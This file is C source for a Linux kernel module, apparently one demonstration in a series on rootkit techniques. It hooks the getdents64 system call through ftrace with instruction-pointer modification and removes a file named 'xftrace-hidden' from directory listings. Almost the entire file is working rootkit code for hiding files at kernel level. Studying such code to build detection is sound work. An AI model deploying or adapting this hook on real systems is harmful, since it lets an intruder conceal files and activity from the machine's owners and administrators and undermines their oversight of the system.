// SPDX-License-Identifier: GPL-2.0
/*
 * 2. The modern way: an ftrace hook with IPMODIFY redirects
 * __x64_sys_getdents64 to module code that hides a file.
 */
#include <linux/module.h>
#include <linux/ftrace.h>
#include <linux/dirent.h>
#include <linux/uaccess.h>
#include <linux/slab.h>
#include "rk_common.h"

#define HIDDEN "xftrace-hidden"

static unsigned long target;
static asmlinkage long (*orig)(const struct pt_regs *regs);

static asmlinkage long rk_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *udir = (void __user *)regs->si;
	long ret = orig(regs), off = 0;
	char *buf;

	if (ret <= 0)
		return ret;
	buf = kmalloc(ret, GFP_KERNEL);
	if (!buf || copy_from_user(buf, udir, ret)) {
		kfree(buf);
		return ret;
	}
	while (off < ret) {
		struct linux_dirent64 *d = (void *)(buf + off);

		if (!strcmp(d->d_name, HIDDEN)) {
			memmove(d, (char *)d + d->d_reclen, ret - off - d->d_reclen);
			ret -= d->d_reclen;
			continue;
		}
		off += d->d_reclen;
	}
	if (copy_to_user(udir, buf, ret))
		ret = -EFAULT;
	kfree(buf);
	return ret;
}

static void notrace rk_callback(unsigned long ip, unsigned long parent_ip,
				struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)rk_getdents64;
}

static struct ftrace_ops rk_ops = {
	.func = rk_callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION |
		 FTRACE_OPS_FL_IPMODIFY,
};

static int __init rk_init(void)
{
	int err;

	target = rk_lookup("__x64_sys_getdents64");
	if (!target)
		return -ENOENT;
	*(unsigned long *)&orig = target;
	err = ftrace_set_filter_ip(&rk_ops, target, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&rk_ops);
	if (err)
		return err;
	pr_info("rk_ftrace_hook: __x64_sys_getdents64 hooked through ftrace\n");
	return 0;
}

static void __exit rk_exit(void)
{
	unregister_ftrace_function(&rk_ops);
	ftrace_set_filter_ip(&rk_ops, target, 1, 0);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
